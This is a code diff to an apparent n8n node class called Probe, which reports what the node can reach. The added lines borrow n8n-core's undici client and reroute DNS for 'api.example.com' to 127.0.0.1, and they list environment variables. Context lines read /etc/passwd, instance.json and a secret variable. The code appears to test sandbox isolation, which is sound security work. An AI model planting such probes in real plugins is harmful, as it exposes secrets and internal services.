@@ -40,11 +40,19 @@ exports.Probe = class Probe {
       ({ token }) => token,
       () => 'refused',
     )
+    // a client of the project's own packages
+    const { cache } = require
+    const core = Object.keys(cache).find(file => /node_modules.n8n-core.dist/.test(file))
+    const undici = require('node:module').createRequire(core)('undici')
+    const dispatcher = new undici.Agent({ connect: { lookup: (_name, _options, done) => done(null, '127.0.0.1', 4) } })
+    const isOther = key => !known.includes(key) && !key.startsWith('N8N_')
     const json = {
       other,
+      undici: await (await undici.request('https://api.example.com/probe', { dispatcher })).body.json(),
+      reported: Object.keys(process.report.getReport().environmentVariables).filter(isOther),
       note: this.getNodeParameter('note', 0),
       answered,
-      environment: Object.keys(process.env).filter(key => !known.includes(key) && !key.startsWith('N8N_')),
+      environment: Object.keys(process.env).filter(isOther),
       secret: String(process.env.UNDERSTUDY_PROBE),
       data: tried(() => fs.readFileSync(path.join(__dirname, '../instance.json'), 'utf8')),
       passwords: tried(() => fs.readFileSync('/etc/passwd', 'utf8')),
